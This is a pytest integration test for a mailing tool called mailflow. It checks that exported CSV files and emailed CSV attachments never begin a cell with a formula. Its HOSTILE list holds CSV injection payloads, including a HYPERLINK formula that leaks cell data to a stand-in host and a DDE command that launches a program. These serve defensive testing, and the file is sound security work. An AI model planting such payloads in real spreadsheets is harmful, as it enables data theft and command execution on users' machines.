"""Every CSV mailflow writes opens in a spreadsheet as text, whatever people wrote."""

from __future__ import annotations

import csv
import email
import email.policy
import io
from pathlib import Path

import pytest

from mailflow.runtime import open_program
from tests.integration.test_cli import mailflow

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


@pytest.fixture
def program(tmp_path) -> Path:
    directory = tmp_path / "program"
    assert mailflow("init", str(directory)).returncode == 0
    rows = "".join(f"{quoted(h)},m{i}@example.org,{quoted(h)}\n" for i, h in enumerate(HOSTILE))
    (tmp_path / "mentors.csv").write_text("name,email,expertise\n" + rows, encoding="utf-8")
    (tmp_path / "mentees.csv").write_text(
        f"name,email,status\n{quoted(HOSTILE[0])},lea@example.com,selected\n",
        encoding="utf-8")
    for role in ("mentors", "mentees"):
        result = mailflow("-C", str(directory), "import", role, str(tmp_path / f"{role}.csv"))
        assert result.returncode == 0, result.stderr
    return directory


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_exported_participants_never_start_a_cell_with_a_formula(program):
    exported = cells(mailflow("-C", str(program), "export", "participants").stdout)

    assert not [c for c in exported if c.startswith(FORMULA_STARTS)]
    assert "'" + HOSTILE[1] in exported


def test_exported_pairs_never_start_a_cell_with_a_formula(program):
    prog = open_program(program)
    try:
        with prog.store.transaction():
            prog.store.table("participants").update(
                {"mentor": "m0@example.org"}, lambda p: p["email"] == "lea@example.com")
    finally:
        prog.close()
    exported = cells(mailflow("-C", str(program), "export", "pairs").stdout)

    assert "lea@example.com" in exported
    assert not [c for c in exported if c.startswith(FORMULA_STARTS)]
    assert "'" + HOSTILE[0] in exported


def test_the_proposal_csv_mailed_to_coordinators_never_starts_a_cell_with_a_formula(
        program, tmp_path):
    (tmp_path / "pairs.csv").write_text("mentee_email,mentor_email\n"
                                        "lea@example.com,m1@example.org\n")
    assert mailflow("-C", str(program), "import", "pairs",
                    str(tmp_path / "pairs.csv")).returncode == 0
    assert mailflow("-C", str(program), "run", "--once").returncode == 0
    attached = []
    for sent in (program / "sent-mail").glob("*.eml"):
        msg = email.message_from_bytes(sent.read_bytes(), policy=email.policy.default)
        attached += [p.get_content() for p in msg.iter_attachments()
                     if (p.get_filename() or "").endswith(".csv")]
    assert attached
    for text in attached:
        found = cells(text)
        assert "'" + HOSTILE[1] in found
        assert not [c for c in found if c.startswith(FORMULA_STARTS)]
